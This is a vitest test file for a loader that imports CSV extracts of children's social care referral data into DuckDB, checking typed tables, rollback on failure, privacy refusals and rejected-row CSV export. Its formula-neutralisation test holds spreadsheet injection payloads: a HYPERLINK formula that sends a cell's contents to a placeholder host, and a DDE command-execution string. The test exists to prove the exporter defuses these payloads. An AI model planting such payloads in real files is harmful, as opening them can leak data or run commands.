/**
 * loadExtract as a whole operation: typed tables and their SQL types, the previous extract replaced
 * completely on success and untouched on failure, rejected rows downloadable as CSV.
 */
import { afterEach, beforeEach, describe, expect, it } from 'vitest';
import { NodeEngine } from '../engine/node';
import type { Engine } from '../engine/types';
import { loadExtract, rejectedRowsCsv, tablesWithRejectedRows, type InputFile } from './index';

const enc = (s: string) => new TextEncoder().encode(s);
const file = (name: string, text: string): InputFile => ({ name, bytes: enc(text) });
const TODAY = { today: '2024-06-30' };
const RH = 'referral_id,child_id,referral_date,referrer_agency,neglect_concern,decision_date,outcome,feedback_date\n';

const FULL: InputFile[] = [
  file('children.csv', 'child_id,birth_month,sex,ethnicity,disability,imd_decile,locality\nC1,2015-04,female,white,no,2,North\n'),
  file('referrals.csv', RH + 'R1,C1,2024-01-05,police,yes,2024-01-06,nfa,2024-01-08\nR2,C1,bad,police,yes,,,\n'),
  file('assessments.csv', 'assessment_id,child_id,referral_id,start_date,completion_date,neglect_identified,outcome\nA1,C1,R1,2024-01-10,2024-02-01,yes,child_in_need\n'),
  file('tool_uses.csv', 'tool_use_id,child_id,tool,completed_date,lead_agency,contributing_agencies,physical_care,safety,love_belonging,esteem\nT1,C1,gcp2,2024-01-10,health,police,1,2,3,4\n'),
  file('episodes.csv', 'episode_id,child_id,type,start_date,end_date,closure_reason,neglect\nE1,C1,early_help,2024-01-01,2024-02-01,improved,yes\n'),
  file('education.csv', 'record_id,child_id,status,start_date,end_date,first_action_date,last_review_date\nD1,C1,CME,2024-01-01,,2024-01-02,2024-01-03\n'),
  file('training.csv', 'quarter,agency,tool,staff_in_scope,staff_trained\n2024-25 Q1,police,gcp2,10,5\n'),
  file('barriers.csv', 'quarter,agency,barrier,respondents,reporting_barrier\n2024-25 Q1,police,time,10,4\n'),
  file('actions.csv', 'action_id,title,owner_agency,due_date,status,completed_date,metric_id,target\nX1,Plan,police,2025-01-01,on_track,,nfa_rate,0.1\n')
];

async function types(engine: Engine, table: string): Promise<Record<string, string>> {
  const rows = await engine.query(`SELECT column_name, data_type FROM duckdb_columns() WHERE table_name = '${table}' ORDER BY column_index`);
  return Object.fromEntries(rows.map((r) => [String(r.column_name), String(r.data_type)]));
}

async function tableNames(engine: Engine): Promise<string[]> {
  const rows = await engine.query(`SELECT table_name FROM duckdb_tables() ORDER BY 1`);
  return rows.map((r) => String(r.table_name));
}

/** An engine that throws on the first statement matching `pattern`. */
function failing(engine: Engine, pattern: RegExp): Engine {
  return {
    kind: engine.kind,
    exec: async (sql) => {
      if (pattern.test(sql)) throw new Error('injected failure');
      return engine.exec(sql);
    },
    query: (sql) => engine.query(sql),
    registerFile: (n, b) => engine.registerFile(n, b),
    dropFile: (p) => engine.dropFile(p),
    createTextTable: (t, c) => engine.createTextTable(t, c),
    close: () => engine.close()
  };
}

let engine: NodeEngine;
beforeEach(async () => {
  engine = await NodeEngine.create();
});
afterEach(async () => {
  await engine.close();
});

describe('typed tables', () => {
  it('have exactly the contract fields with their SQL types', async () => {
    const r = await loadExtract(engine, FULL, TODAY);
    expect(r.present).toEqual([
      'children',
      'referrals',
      'assessments',
      'tool_uses',
      'episodes',
      'education',
      'training',
      'barriers',
      'actions'
    ]);
    expect(await types(engine, 'children')).toEqual({
      child_id: 'VARCHAR',
      birth_month: 'DATE',
      sex: 'VARCHAR',
      ethnicity: 'VARCHAR',
      disability: 'VARCHAR',
      imd_decile: 'INTEGER',
      locality: 'VARCHAR'
    });
    expect(await types(engine, 'referrals')).toEqual({
      referral_id: 'VARCHAR',
      child_id: 'VARCHAR',
      referral_date: 'DATE',
      referrer_agency: 'VARCHAR',
      neglect_concern: 'BOOLEAN',
      decision_date: 'DATE',
      outcome: 'VARCHAR',
      feedback_date: 'DATE'
    });
    expect((await types(engine, 'tool_uses')).contributing_agencies).toBe('VARCHAR[]');
    expect((await types(engine, 'tool_uses')).esteem).toBe('INTEGER');
    expect(await types(engine, 'training')).toEqual({
      quarter: 'VARCHAR',
      agency: 'VARCHAR',
      tool: 'VARCHAR',
      staff_in_scope: 'INTEGER',
      staff_trained: 'INTEGER'
    });
    expect((await types(engine, 'barriers')).reporting_barrier).toBe('INTEGER');
    expect((await types(engine, 'actions')).target).toBe('DOUBLE');
    expect((await types(engine, 'actions')).due_date).toBe('DATE');
    expect(await engine.query('SELECT status FROM education')).toEqual([{ status: 'missing_education' }]);
    // only the typed tables and the rejected rows remain: no staging left behind
    expect((await tableNames(engine)).filter((n) => n.startsWith('_'))).toEqual([
      '_nm_rejected_actions',
      '_nm_rejected_assessments',
      '_nm_rejected_barriers',
      '_nm_rejected_children',
      '_nm_rejected_education',
      '_nm_rejected_episodes',
      '_nm_rejected_referrals',
      '_nm_rejected_tool_uses',
      '_nm_rejected_training'
    ]);
  });
});

describe('replacing the previous extract', () => {
  it('a successful load replaces every table; a table absent from the new extract is gone', async () => {
    await loadExtract(engine, FULL, TODAY);
    const r = await loadExtract(engine, [file('referrals.csv', RH + 'R9,C9,2024-02-01,health,no,,,\n')], TODAY);
    expect(r.replaced).toBe(true);
    expect(await engine.query('SELECT referral_id FROM referrals')).toEqual([{ referral_id: 'R9' }]);
    expect((await tableNames(engine)).filter((n) => !n.startsWith('_'))).toEqual(['referrals']);
  });

  // while checking episodes, and when its checked table becomes its typed table
  it.each([/CREATE OR REPLACE TABLE "_nm_chk_episodes"/, /RENAME TO "_nm_new_episodes"/])(
    'a failure while validating (%s) leaves the previous tables untouched and no staging behind',
    async (pattern) => {
      await loadExtract(engine, FULL, TODAY);
      const before = await tableNames(engine);
      const bad = failing(engine, pattern);
      await expect(
        loadExtract(bad, [file('referrals.csv', RH + 'R9,C9,2024-02-01,health,no,,,\n'), FULL[4]!], TODAY)
      ).rejects.toThrow('injected failure');
      expect(await tableNames(engine)).toEqual(before);
      expect(await engine.query('SELECT referral_id FROM referrals')).toEqual([{ referral_id: 'R1' }]);
    }
  );

  it('a failure inside the swap transaction is rolled back', async () => {
    await loadExtract(engine, FULL, TODAY);
    const before = await tableNames(engine);
    const bad = failing(engine, /ALTER TABLE "_nm_new_episodes"/);
    await expect(
      loadExtract(bad, [file('referrals.csv', RH + 'R9,C9,2024-02-01,health,no,,,\n'), FULL[4]!], TODAY)
    ).rejects.toThrow('injected failure');
    expect(await tableNames(engine)).toEqual(before);
    expect(await engine.query('SELECT count(*) AS n FROM children')).toEqual([{ n: 1 }]);
    expect(await engine.query('SELECT referral_id FROM referrals')).toEqual([{ referral_id: 'R1' }]);
  });

  it('an extract without referrals does not replace the previous one', async () => {
    await loadExtract(engine, FULL, TODAY);
    const r = await loadExtract(engine, [FULL[0]!], TODAY);
    expect(r.replaced).toBe(false);
    expect(r.missingRequired).toEqual(['referrals']);
    expect(await engine.query('SELECT referral_id FROM referrals')).toEqual([{ referral_id: 'R1' }]);
  });

  it('a load whose referrals are all rejected, or only a header, leaves the previous extract in use', async () => {
    await loadExtract(engine, FULL, TODAY);
    const before = await tableNames(engine);
    const all = await loadExtract(engine, [FULL[0]!, file('referrals.csv', RH + 'R7,C1,bad,police,yes,,,\n')], TODAY);
    expect(all.replaced).toBe(false);
    expect(all.failure).toBe('No referral was loaded: all 1 rows of referrals were rejected (see the problems below).');
    expect(all.tables.referrals).toMatchObject({ read: 1, loaded: 0, rejected: 1 });
    const header = await loadExtract(engine, [file('referrals.csv', RH)], TODAY);
    expect(header.replaced).toBe(false);
    expect(header.failure).toBe('No referral was loaded: the referrals file has a header but no rows.');
    expect(await tableNames(engine)).toEqual(before);
    expect(await engine.query('SELECT referral_id FROM referrals ORDER BY 1')).toEqual([{ referral_id: 'R1' }]);
  });

  it('two files with the same name are refused together, naming them, and the previous extract stays', async () => {
    await loadExtract(engine, FULL, TODAY);
    const before = await tableNames(engine);
    const r = await loadExtract(
      engine,
      [
        file('north/referrals.csv', RH + 'R7,C1,2024-01-05,police,yes,,,\n'),
        file('south/referrals.csv', RH + 'R8,C1,2024-01-05,police,yes,,,\n'),
        FULL[0]!
      ],
      TODAY
    );
    expect(r.replaced).toBe(false);
    expect(r.refused).toEqual([
      {
        file: 'referrals.csv',
        reason:
          'referrals.csv refused: the load holds more than one file of this name (north/referrals.csv, south/referrals.csv). Rename each as a part of its table (e.g. referrals.north.csv) and load them again.'
      }
    ]);
    expect(r.failure).toBe(
      'More than one file named referrals.csv was chosen: they were refused together and nothing of this load was used. Rename one as a part (e.g. referrals.north.csv) and load again.'
    );
    // the browser gives base names only: the two are still named
    const same = await loadExtract(engine, [file('referrals.csv', RH), file('referrals.csv', RH)], TODAY);
    expect(same.refused.map((x) => x.reason)).toEqual([
      'referrals.csv refused: the load holds more than one file of this name (2 files named referrals.csv). Rename each as a part of its table (e.g. referrals.north.csv) and load them again.'
    ]);
    expect(await tableNames(engine)).toEqual(before);
    expect(await engine.query('SELECT referral_id FROM referrals ORDER BY 1')).toEqual([{ referral_id: 'R1' }]);
  });
});

describe('the privacy guard on columns checked per distinct value', () => {
  // a date, code or free-text column of a contract table is scanned by its distinct values (each
  // counted as often as it occurs): identifiers in it still refuse the file, with the same counts
  it('refuses a date column holding NHS numbers, counting a repeated one twice', async () => {
    const r = await loadExtract(
      engine,
      [file('referrals.csv', RH + 'R1,C1,943 476 5919,police,yes,,,\nR2,C1,943 476 5919,police,yes,,,\nR3,C1,2024-01-05,police,yes,,,\n')],
      TODAY
    );
    expect(r.refused).toEqual([
      {
        file: 'referrals.csv',
        reason:
          "referrals.csv refused: column 'referral_date' holds what look like NHS numbers (2 of 2 ten-digit values pass the NHS number check). Remove that column, or replace its values with pseudonymous ids, and export the file again."
      }
    ]);
    expect(r.replaced).toBe(false);
  });
  it('refuses a locality column of full postcodes: 2 of 3 values', async () => {
    const r = await loadExtract(
      engine,
      [
        file('children.csv', 'child_id,locality\nC1,ST4 1AB\nC2,ST4 1AB\nC3,North\n'),
        file('referrals.csv', RH + 'R1,C1,2024-01-05,police,yes,,,\n')
      ],
      TODAY
    );
    expect(r.refused.map((x) => x.reason)).toEqual([
      "children.csv refused: column 'locality' holds full postcodes (2 of 3 values). Remove that column, or give only an area's name (a locality), and export the file again."
    ]);
  });
});

describe('rejected rows as CSV', () => {
  it('gives the rejected rows with their values as read and the reasons', async () => {
    await loadExtract(
      engine,
      [
        file(
          'referrals.csv',
          RH + 'R1,C1,2024-01-05,police,yes,,,\nR1,C2,2024-01-05,police,yes,,,\n R3 ,C3,31/02/2024,martians,yes,,"a, b",\n'
        )
      ],
      TODAY
    );
    expect(await tablesWithRejectedRows(engine)).toEqual(['referrals']);
    // line 3: R1 again; line 4: two failing fields in one row, outcome 'a, b' is only a warning
    // but the row is rejected anyway, so its value is kept in the CSV (quoted for the comma)
    expect(await rejectedRowsCsv(engine, 'referrals')).toBe(
      'file,line,referral_id,child_id,referral_date,referrer_agency,neglect_concern,decision_date,outcome,feedback_date,reason\r\n' +
        'referrals.csv,3,R1,C2,2024-01-05,police,yes,,,,referral_id: referral_id already used by referrals.csv line 2\r\n' +
        'referrals.csv,4,R3,C3,31/02/2024,martians,yes,,"a, b",,"referral_date: not a real calendar date; referrer_agency: not one of the accepted values (police, health, education, early_years, social_care, early_help, housing, voluntary, public, anonymous, other, unknown)"\r\n'
    );
    expect(await rejectedRowsCsv(engine, 'children')).toBe('');
  });
});

describe('rejected rows CSV', () => {
  it('neutralises every cell that begins like a formula', async () => {
    const rows =
      'R1,C1,2024-01-05,police,maybe,,"=HYPERLINK(""http://x.example/?""&A1,""click"")",\n' +
      "R2,C2,+cmd|' /C calc'!A0,police,yes,,,\n" +
      'R3,C3,2024-01-05,@SUM(1+1),yes,,,\n' +
      'R4,C4,-2,police,yes,,,\n' +
      'R5,C5,2024-01-05,police,yes,,,\n';
    await loadExtract(engine, [file('referrals.csv', RH + rows)], TODAY);
    const csv = await rejectedRowsCsv(engine, 'referrals');
    const lines = csv.split('\r\n');
    expect(lines[1]).toBe(
      `referrals.csv,2,R1,C1,2024-01-05,police,maybe,,"'=HYPERLINK(""http://x.example/?""&A1,""click"")",,"neglect_concern: not true/false, yes/no, y/n or 1/0"`
    );
    expect(lines[2]).toBe(
      `referrals.csv,3,R2,C2,'+cmd|' /C calc'!A0,police,yes,,,,referral_date: not a date: use YYYY-MM-DD or DD/MM/YYYY`
    );
    expect(lines[3]).toMatch(/^referrals\.csv,4,R3,C3,2024-01-05,'@SUM\(1\+1\),yes,,,,"referrer_agency: not one of/);
    expect(lines[4]).toBe(`referrals.csv,5,R4,C4,'-2,police,yes,,,,referral_date: not a date: use YYYY-MM-DD or DD/MM/YYYY`);
    // no cell of any line starts a formula
    for (const line of lines) for (const cell of line.split(',')) expect(cell).not.toMatch(/^"?[=+@\t\r-]/);
  });
});

describe('formula-neutralised cells', () => {
  it('lose their quote only before = + - @ tab or carriage return, never when alone', async () => {
    // each action title is read back exactly as the contract's unneutralise gives it
    const titles = ["'=A1", "'+1", "'-x", "'@x", "'\tx", "'\rx", "'x", "'", "''=A1"];
    const body = titles.map((t, i) => `X${i},"${t}",police,2025-01-01,on_track,,nfa_rate,0.1`).join('\n');
    await loadExtract(
      engine,
      [...FULL.filter((f) => f.name !== 'actions.csv'), file('actions.csv', 'action_id,title,owner_agency,due_date,status,completed_date,metric_id,target\n' + body + '\n')],
      TODAY
    );
    const rows = await engine.query('SELECT action_id, title FROM actions ORDER BY action_id');
    expect(rows.map((r) => r.title)).toEqual(['=A1', '+1', '-x', '@x', '\tx', '\rx', "'x", "'", "''=A1"]);
  });
});

describe('progress', () => {
  it('reports each file through its stages', async () => {
    const seen: string[] = [];
    await loadExtract(engine, [FULL[1]!, file('notes.txt', 'x')], {
      ...TODAY,
      onProgress: (f, s) => seen.push(`${f}:${s}`)
    });
    expect(seen).toEqual([
      'notes.txt:reading',
      'notes.txt:refused',
      'referrals.csv:reading',
      'referrals.csv:checking',
      'referrals.csv:validating',
      'referrals.csv:done'
    ]);
  });
});
